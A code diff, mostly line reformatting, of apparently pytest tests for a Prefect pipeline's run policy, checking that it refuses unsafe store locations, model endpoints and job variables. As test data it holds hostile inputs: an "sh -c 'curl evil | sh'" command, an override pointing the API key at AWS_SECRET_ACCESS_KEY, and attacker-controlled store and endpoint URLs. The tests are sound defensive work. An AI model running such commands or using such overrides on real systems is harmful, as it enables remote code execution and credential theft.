@@ -41,7 +41,9 @@ def _no_declared_dirs(monkeypatch):
 
 def test_a_recipe_under_configs_is_allowed_and_resolved():
     assert check_run(FULL, "configs/tiny-gold.yaml", cwd=REPO) == (REPO / "configs" / "tiny-gold.yaml").resolve()
-    assert check_run(FULL, "configs/tiny.yaml", overrides=["collect.sources.0.n=40", "extract.backend=openai"], cwd=REPO)
+    assert check_run(
+        FULL, "configs/tiny.yaml", overrides=["collect.sources.0.n=40", "extract.backend=openai"], cwd=REPO
+    )
 
 
 @pytest.mark.parametrize(
@@ -58,7 +60,9 @@ def test_a_run_may_not_move_the_store_unless_the_deployment_says_so():
     message = _refused(check_run, FULL, "configs/tiny.yaml", store="file:///tmp/elsewhere", cwd=REPO)
     assert "store" in message and "t2g-allow:store" in message
     # The deployment's own store (prefect.yaml, or `prefect deploy --param store=...`) is the operator's choice.
-    regen = Policy.of(SimpleNamespace(tags=[], parameters={"config": "configs/tiny.yaml", "store": "s3://t2g/regen/{date}"}))
+    regen = Policy.of(
+        SimpleNamespace(tags=[], parameters={"config": "configs/tiny.yaml", "store": "s3://t2g/regen/{date}"})
+    )
     check_run(regen, "configs/tiny.yaml", store="s3://t2g/regen/{date}", cwd=REPO)
     _refused(check_run, regen, "configs/tiny.yaml", store="s3://attacker/regen", cwd=REPO)
     allowed = Policy.of(SimpleNamespace(tags=["t2g", "t2g-allow:store"], parameters={}))
@@ -69,7 +73,13 @@ def test_the_deployment_allows_named_fields_and_its_own_overrides():
     endpoint = ["extract.backend=openai", "extract.base_url=http://models.internal/v1"]
     tagged = Policy.of(SimpleNamespace(tags=["t2g-allow:extract.base_url"], parameters={}))
     check_run(tagged, "configs/tiny.yaml", overrides=endpoint, cwd=REPO)
-    _refused(check_run, tagged, "configs/tiny.yaml", overrides=[*endpoint, "extract.api_key_env=AWS_SECRET_ACCESS_KEY"], cwd=REPO)
+    _refused(
+        check_run,
+        tagged,
+        "configs/tiny.yaml",
+        overrides=[*endpoint, "extract.api_key_env=AWS_SECRET_ACCESS_KEY"],
+        cwd=REPO,
+    )
     own = Policy.of(SimpleNamespace(tags=[], parameters={"overrides": endpoint}))
     check_run(own, "configs/tiny.yaml", overrides=endpoint, cwd=REPO)
     _refused(check_run, own, "configs/tiny.yaml", overrides=["extract.base_url=http://evil/v1"], cwd=REPO)
@@ -158,11 +168,20 @@ def test_a_runs_job_variables_cannot_change_the_command_or_environment():
     from prefect.workers.process import ProcessJobConfiguration, ProcessWorker
 
     locked = json.loads((REPO / "deployments" / "work-pools" / "process-locked.json").read_text())
-    evil = {"command": "sh -c 'curl evil | sh'", "env": {access.RECIPE_DIRS_ENV: "/etc"}, "env.PATH": "/tmp", "working_dir": "/"}
+    evil = {
+        "command": "sh -c 'curl evil | sh'",
+        "env": {access.RECIPE_DIRS_ENV: "/etc"},
+        "env.PATH": "/tmp",
+        "working_dir": "/",
+    }
     config = asyncio.run(ProcessJobConfiguration.from_template_and_values(locked, evil, client=object()))
     assert config.command is None and not config.env and config.working_dir is None
     # Prefect's default template would have taken them (why the stack replaces it).
-    default = asyncio.run(ProcessJobConfiguration.from_template_and_values(ProcessWorker.get_default_base_job_template(), evil, client=object()))
+    default = asyncio.run(
+        ProcessJobConfiguration.from_template_and_values(
+            ProcessWorker.get_default_base_job_template(), evil, client=object()
+        )
+    )
     assert default.command == evil["command"]
     # Otherwise the same template: the worker's own fields are all still there.
     assert set(locked["variables"]["properties"]) == {"name", "labels", "stream_output"}
